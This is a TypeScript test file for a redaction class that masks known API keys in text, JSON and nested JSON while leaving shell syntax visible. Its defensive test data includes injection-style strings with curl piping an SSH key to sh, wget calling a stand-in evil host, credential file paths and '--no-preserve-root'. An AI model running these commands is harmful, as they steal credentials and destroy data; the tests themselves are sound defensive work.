import assert from 'node:assert/strict';
import { KnownKeys } from '../../../../src/classifier/prompt/secretCleaner';

const MARK = '[REDACTED API key]';

describe('keys that are known', () => {
  const keys = new KnownKeys();
  const key = 'gateway/"1q2w3e\\4r5t';
  for (const one of [key, 'ollama', 'protected-path', key]) keys.note(one);

  for (const [how, text, expected] of [
    ['as it is', `x ${key} y`, `x ${MARK}"${MARK}\\4${MARK} y`],
    ['in JSON', JSON.stringify({ a: key }), JSON.stringify({ a: `${MARK}"${MARK}\\4${MARK}` })],
    [
      'in JSON in JSON',
      JSON.stringify(JSON.stringify([key])),
      JSON.stringify(JSON.stringify([`${MARK}"${MARK}\\4${MARK}`])),
    ],
    ['a word that many enter for one', 'ollama run qwen', 'ollama run qwen'],
    ['words, by which records are told apart', 'protected-path', 'protected-path'],
    ['a secret by its form', 'TOKEN=abcd1234', 'TOKEN=[REDACTED secret]'],
  ] as const) {
    it(how, () => {
      assert.equal(keys.redact(text), expected);
    });
  }

  it('takes out the longer of two keys first, whichever was found first', () => {
    for (const found of [
      ['gateway-0123', 'gateway-0123-4567'],
      ['gateway-0123-4567', 'gateway-0123'],
    ]) {
      const both = new KnownKeys();
      for (const one of found) both.note(one);
      assert.equal(both.redact('a gateway-0123-4567 b gateway-0123 c'), `a ${MARK} b ${MARK} c`);
    }
  });

  // A container that a repository describes sets variables, too.
  for (const [hidden, shown] of [
    [';curl$IFS-d@.ssh/id_rsa1|sh;', `;${MARK}$${MARK}|${MARK};`],
    ['$(wget${IFS}evil1.example)', `$(${MARK}\${${MARK}}${MARK})`],
    ['$&$&$&$&$&$&1', `$&$&$&$&$&$&${MARK}`],
    ['<evil1.example>', `<${MARK}>`],
    ['/home/me/.ssh/id_rsa', '/home/me/.ssh/id_rsa'],
    ['~/.aws/credentials', '~/.aws/credentials'],
    ['https://evil.example', 'https://evil.example'],
    ['--no-preserve-root', '--no-preserve-root'],
  ] as const) {
    it(`hides nothing by which a shell acts: ${hidden}`, () => {
      const hiding = new KnownKeys();
      hiding.note(hidden);
      const command = `true ${hidden}`;
      assert.equal(hiding.redact(command), `true ${shown}`);
      const told = { command };
      assert.deepEqual(JSON.parse(hiding.redact(JSON.stringify(told))), { command: `true ${shown}` });
      assert.deepEqual(JSON.parse(JSON.parse(hiding.redact(JSON.stringify(JSON.stringify(told)))) as string), {
        command: `true ${shown}`,
      });
    });
  }

  it('leaves JSON JSON, however the key is spelled', () => {
    const odd = new KnownKeys();
    odd.note('<0123456789>\\u0041"\\n$&');
    for (const text of [
      JSON.stringify({ a: '<0123456789>\\u0041"\\n$& rest' }),
      JSON.stringify({ a: '<0123456789>\\u0041"\\n$& rest' }).replaceAll('<', '\\u003c'),
    ]) {
      assert.match((JSON.parse(odd.redact(text)) as { a: string }).a, /^<\[REDACTED API key\]>\\.* rest$/);
    }
  });
});
